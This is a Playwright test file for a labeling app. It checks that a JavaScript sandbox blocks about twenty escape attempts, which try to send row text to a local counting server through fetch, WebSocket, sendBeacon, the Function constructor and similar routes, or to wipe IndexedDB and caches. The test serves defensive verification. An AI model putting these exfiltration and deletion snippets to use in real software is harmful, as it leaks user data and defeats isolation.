/**
 * The labeling-function sandbox in real Chromium: one JavaScript labeling function per way out of the
 * worker, each trying to send the row's text to a server on another port that counts every request it
 * gets. The counter stays 0, the store and the Cache Storage are as they were, each function shows its
 * own error, and a plain function before and after them labels exactly what a hand computation says.
 */
import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createProject, importFile } from './helpers';

const ROWS = ['win free money now', 'lunch at noon?', 'FREE cash prize', 'minutes of the meeting', 'claim your money', 'see you tomorrow'];
const CSV = `text,kind\n${ROWS.map((r, i) => `${r},${i % 2 === 0 ? 'spam' : 'ham'}`).join('\n')}\n`;
/** The control function's labels by hand: spam (1) where the text says money or free, else abstain. */
const CONTROL = ROWS.map((r) => (/money|free/i.test(r) ? 1 : -1));

let server: Server;
let requests: string[] = [];
let leak = '';

test.beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('ok');
  });
  // A WebSocket handshake arrives as an upgrade, not a request: count it too.
  server.on('upgrade', (req, socket) => {
    requests.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  leak = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
});

/** Each escape sends the row's text out if it can, then labels the row spam. */
function escapes(): [string, string, RegExp][] {
  const url = (what: string) => `'${leak}/${what}?' + encodeURIComponent(row.text)`;
  return [
    ['fetch', `(row) => { fetch(${url('fetch')}); return 1; }`, /ReferenceError: fetch is not defined/],
    ['fetch from the prototype', `(row) => { WorkerGlobalScope.prototype.fetch.call(self, ${url('proto')}); return 1; }`, /ReferenceError: WorkerGlobalScope is not defined/],
    ['XMLHttpRequest', `(row) => { const x = new XMLHttpRequest(); x.open('GET', ${url('xhr')}); x.send(); return 1; }`, /ReferenceError: XMLHttpRequest is not defined/],
    ['WebSocket', `(row) => { new WebSocket(${url('ws')}.replace('http', 'ws')); return 1; }`, /ReferenceError: WebSocket is not defined/],
    ['EventSource', `(row) => { new EventSource(${url('sse')}); return 1; }`, /ReferenceError: EventSource is not defined/],
    ['importScripts', `(row) => { importScripts(${url('scripts')}); return 1; }`, /ReferenceError: importScripts is not defined/],
    ['FontFace', `(row) => { new FontFace('x', 'url(' + ${url('font')} + ')').load(); return 1; }`, /ReferenceError: FontFace is not defined/],
    ['self.fonts', `(row) => { self.fonts.add(1); return 1; }`, /ReferenceError: self is not defined/],
    ['new Worker', `(row) => { new Worker(${url('worker')}); return 1; }`, /ReferenceError: Worker is not defined/],
    ['sendBeacon', `(row) => { navigator.sendBeacon(${url('beacon')}, row.text); return 1; }`, /ReferenceError: navigator is not defined/],
    ['indexedDB', `(row) => { indexedDB.deleteDatabase('pipette'); return 1; }`, /ReferenceError: indexedDB is not defined/],
    ['caches', `(row) => { caches.keys().then((ks) => ks.forEach((k) => caches.delete(k))); return 1; }`, /ReferenceError: caches is not defined/],
    ['BroadcastChannel', `(row) => { new BroadcastChannel('pipette-leak').postMessage(row.text); return 1; }`, /ReferenceError: BroadcastChannel is not defined/],
    ['forged dispatchEvent', `(row) => { self.dispatchEvent(new MessageEvent('message', { data: { type: 'run', index: 0, source: '() => 0' } })); return 1; }`, /ReferenceError: self is not defined/],
    ['EventTarget listener', `(row) => { EventTarget.prototype.addEventListener.call(globalThis, 'message', () => {}); return 1; }`, /ReferenceError: EventTarget is not defined/],
    ['forged postMessage', `(row) => { postMessage({ type: 'result', index: 0, outcome: null }); return 1; }`, /ReferenceError: postMessage is not defined/],
    ['Function constructor', `(row) => { (() => {}).constructor('return fetch')()(${url('ctor')}); return 1; }`, /EvalError: code generation is disabled/],
    ['async Function constructor', `(row) => { Object.getPrototypeOf(async () => {}).constructor('await fetch(' + JSON.stringify(${url('async')}) + ')')(); return 1; }`, /EvalError: code generation is disabled/],
    ['generator Function constructor', `(row) => { Object.getPrototypeOf(function* () {}).constructor('yield 1')(); return 1; }`, /EvalError: code generation is disabled/],
    ['import()', `(row) => { import(${url('import')}); return 1; }`, /import is not allowed/],
  ];
}

async function addCodeFunction(page: Page, name: string, source: string): Promise<void> {
  await page.getByTestId('lf-add').click();
  await page.getByTestId('lf-name').fill(name);
  await page.getByTestId('lf-kind').selectOption('code');
  await page.getByTestId('lf-code').fill(source);
  await page.getByTestId('lf-save').click();
  await expect(page.getByTestId('lf-editor')).toHaveCount(0);
}

/** Every object store of the app's database: its record count and a digest of its keys. */
async function storeSnapshot(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const r = indexedDB.open('pipette');
      r.onsuccess = () => resolve(r.result);
      r.onerror = () => reject(r.error);
    });
    const out: Record<string, string> = {};
    for (const name of db.objectStoreNames) {
      const keys = await new Promise<IDBValidKey[]>((resolve) => {
        const r = db.transaction(name).objectStore(name).getAllKeys();
        r.onsuccess = () => resolve(r.result);
      });
      out[name] = JSON.stringify(keys);
    }
    db.close();
    return out;
  });
}

test('every way out of the labeling-function sandbox is closed, and the other functions are unaffected', async ({ page }) => {
  await createProject(page, 'Sandbox');
  await importFile(page, 'leak.csv', Buffer.from(CSV));
  await expect(page.getByTestId('import-done')).toContainText('6');
  await page.getByTestId('stage-label').click();
  await page.getByTestId('label-tab-schema').click();
  await page.getByTestId('schema-classes').fill('ham\nspam');
  await page.getByTestId('schema-save').click();
  await expect(page.getByTestId('schema-version')).toHaveAttribute('data-version', '1');
  await page.getByTestId('label-tab-functions').click();

  const control = `(row) => /money|free/i.test(row.text) ? 1 : ABSTAIN`;
  await addCodeFunction(page, 'control before', control);
  for (const [name, source] of escapes()) await addCodeFunction(page, name, source);
  await addCodeFunction(page, 'control after', control);
  await expect(page.getByTestId('lf-item')).toHaveCount(escapes().length + 2);

  // A listener on the channel the BroadcastChannel escape would post to.
  await page.evaluate(() => {
    (window as unknown as { leaked: unknown[] }).leaked = [];
    new BroadcastChannel('pipette-leak').onmessage = (e) => (window as unknown as { leaked: unknown[] }).leaked.push(e.data);
  });
  const cachesBefore = await page.evaluate(() => caches.keys());
  const before = await storeSnapshot(page);
  requests = [];

  await page.getByTestId('lf-run').click();
  await expect(page.getByTestId('lf-row')).toHaveCount(escapes().length + 2, { timeout: 60_000 });

  for (const [name, , message] of escapes()) {
    const row = page.locator(`[data-testid="lf-row"][data-name="${name}"]`);
    await expect(row, name).toHaveAttribute('data-status', name === 'import()' ? 'compile-error' : 'threw');
    await expect(row.getByTestId('lf-message'), name).toHaveText(message);
    // A function that threw on every row labels none of them.
    await expect(row.getByTestId('lf-coverage'), name).toHaveAttribute('data-value', '0');
  }
  for (const name of ['control before', 'control after']) {
    const row = page.locator(`[data-testid="lf-row"][data-name="${name}"]`);
    await expect(row).toHaveAttribute('data-status', 'ok');
    expect(Number(await row.getByTestId('lf-coverage').getAttribute('data-value'))).toBeCloseTo(CONTROL.filter((v) => v !== -1).length / ROWS.length, 12);
  }

  await page.getByTestId('lf-analysis').screenshot({ path: join(tmpdir(), 'pipette-sandbox.png') });

  // Give anything that did get out a moment to arrive: one round trip to the counting server from Node
  // is queued behind any request the browser sent before it.
  await fetch(`${leak}/probe-from-test`);
  expect(requests).toEqual(['GET /probe-from-test']);
  expect(await page.evaluate(() => (window as unknown as { leaked: unknown[] }).leaked)).toEqual([]);
  expect(await page.evaluate(() => caches.keys())).toEqual(cachesBefore);
  expect(await storeSnapshot(page)).toEqual(before);
});

test('the page carries a Content-Security-Policy that allows connections to its own origin only', async ({ page }) => {
  requests = [];
  await page.goto('./');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toContain("default-src 'self'");
  // The policy is enforced, and the app's workers inherit it (they start from blob: URLs): a fetch to
  // another origin fails in the page and in a worker started the same way.
  const fromPage = await page.evaluate((url) => fetch(url).then(() => 'sent', (e: Error) => e.name), `${leak}/page`);
  const fromWorker = await page.evaluate((url) => {
    const src = `fetch(${JSON.stringify(url)}).then(() => postMessage('sent'), (e) => postMessage(e.name));`;
    const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
    return new Promise<string>((resolve) => (w.onmessage = (e) => resolve(e.data as string)));
  }, `${leak}/worker`);
  expect([fromPage, fromWorker]).toEqual(['TypeError', 'TypeError']);
  await fetch(`${leak}/probe-from-test`);
  expect(requests).toEqual(['GET /probe-from-test']);
});
